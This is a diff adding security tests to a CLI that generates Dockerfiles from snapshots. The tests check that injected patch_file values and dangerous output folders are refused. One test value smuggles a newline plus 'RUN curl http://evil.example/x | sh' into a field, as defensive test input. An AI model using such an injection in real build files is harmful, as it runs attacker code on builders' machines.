@@ -56,6 +56,25 @@ describe('crafted snapshots are refused before anything is written', () => {
     expect(existsSync(join(work, 'refs-out'))).toBe(false);
   });
 
+  it('refuses a patch_file with a line break, which could otherwise reach a Dockerfile comment', async () => {
+    const snapshot = YAML.parse(readFileSync(join(repoRoot, 'examples', 'snapshots', 'tf221-cpu.yaml'), 'utf8'));
+    const repo = join(work, 'newline-repo');
+    mkdirSync(repo);
+    execFileSync('git', ['-C', repo, 'init', '-q']);
+    writeFileSync(join(repo, 'a.txt'), 'a');
+    execFileSync('git', ['-C', repo, '-c', 'user.email=t@e', '-c', 'user.name=t', 'add', '-A']);
+    execFileSync('git', ['-C', repo, '-c', 'user.email=t@e', '-c', 'user.name=t', 'commit', '-qm', 'x']);
+    const commit = execFileSync('git', ['-C', repo, 'rev-parse', 'HEAD'], { encoding: 'utf8' }).trim();
+    snapshot.code = { path: repo, git: { commit, branch: null, remote_url: null, dirty: true, patch_file: 'x\nRUN curl http://evil.example/x | sh\n#', untracked: [] } };
+    const dir = join(work, 'newline');
+    mkdirSync(dir);
+    writeFileSync(join(dir, 'snapshot.yaml'), YAML.stringify(snapshot));
+    const r = await runCli(['dockerfile', 'snapshot.yaml', '--json'], { cwd: dir });
+    expect(r.exitCode).toBe(3);
+    expect(r.json.error.message).toMatch(/^code\.git\.patch_file: "x\\nRUN curl/);
+    expect(existsSync(join(dir, 'snapshot.docker'))).toBe(false);
+  });
+
   it('refuses a patch_file that points outside the snapshot folder', async () => {
     const snapshot = YAML.parse(readFileSync(join(repoRoot, 'examples', 'snapshots', 'tf221-cpu.yaml'), 'utf8'));
     const repo = join(work, 'outside-repo');
@@ -128,6 +147,17 @@ describe('a context from a real capture', () => {
     expect(forced.exitCode).toBe(0);
     expect(existsSync(join(project, 'snapshot.docker', 'mine.txt'))).toBe(false);
     expect(readFileSync(join(project, 'snapshot.docker', 'Dockerfile'), 'utf8')).toContain('uv python install 3.11.7');
+  });
+
+  it('never replaces a folder that holds the snapshot, the current folder or the code, even with --force', async () => {
+    writeFileSync(join(project, 'important.txt'), 'keep me');
+    for (const out of ['.', '..']) {
+      const r = await runCli(['dockerfile', '--output-dir', out, '--force'], { cwd: project });
+      expect(r.exitCode).toBe(4);
+      expect(r.stderr).toMatch(/would hold (the snapshot|the current folder)/);
+    }
+    expect(readFileSync(join(project, 'important.txt'), 'utf8')).toBe('keep me');
+    expect(existsSync(join(project, 'snapshot.yaml'))).toBe(true);
   });
 
   it('leaves the code out, with a warning, when the repository is not there', async () => {
